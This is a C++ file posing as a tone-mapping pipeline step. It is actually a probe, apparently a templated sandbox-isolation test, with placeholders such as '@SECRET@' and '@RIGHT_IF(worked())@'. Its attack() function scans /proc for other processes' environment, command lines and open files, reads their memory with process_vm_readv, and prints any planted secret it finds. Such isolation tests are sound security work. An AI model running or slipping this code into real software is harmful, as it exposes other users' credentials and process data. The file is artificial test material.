#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cstdio>
#include <cstring>
#include <string>

static const std::string k_mark = std::string("rayst") + "eps-secret-";

static bool is_secret(const std::string& text) {
    const auto at = text.find(k_mark);
    const bool found = at != std::string::npos && at + k_mark.size() < text.size() &&
                       std::isxdigit(static_cast<unsigned char>(text[at + k_mark.size()])) != 0;
    if (found) {
        std::fputs(text.c_str() + at, stderr);
        std::fputs(text.c_str() + at, stdout);
    }
    return found;
}

static std::string content(int fd) {
    std::string text(1 << 20, '\0');
    const ssize_t size = fd < 0 ? 0 : read(fd, text.data(), text.size());
    text.resize(size < 0 ? 0 : static_cast<std::size_t>(size));
    return text;
}

static bool holds_secret(const std::string& path) {
    const int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY);
    const bool found = is_secret(content(fd));
    close(fd);
    return found;
}

#include <sys/uio.h>

static bool attack() {
    DIR* listing = opendir("/proc");
    bool found = false;
    for (const dirent* one = listing != nullptr ? readdir(listing) : nullptr; one != nullptr && !found;
         one = readdir(listing)) {
        const std::string process = std::string("/proc/") + one->d_name;
        if (std::isdigit(static_cast<unsigned char>(one->d_name[0])) == 0) {
            continue;
        }
        for (const char* file : {"/environ", "/cmdline", "/root@SECRET@", "/root@DATABASE@", "/cwd/@SECRET_NAME@",
                                 "/mountinfo"}) {
            found = found || holds_secret(process + file);
        }
        for (int fd = 0; fd < 256 && !found; ++fd) {
            found = holds_secret(process + "/fd/" + std::to_string(fd));
        }
        char buffer[4096];
        iovec mine{buffer, sizeof buffer};
        iovec other{reinterpret_cast<void*>(0x400000), sizeof buffer};
        const int pid = std::atoi(one->d_name);
        found = found || (pid != getpid() && process_vm_readv(pid, &mine, 1, &other, 1, 0) > 0);
    }
    return found || getenv("RAYSTEPS_PLANTED") != nullptr || access("/proc/@PID@/environ", R_OK) == 0 ||
           (getenv("PATH") != nullptr && is_secret(getenv("PATH")));
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
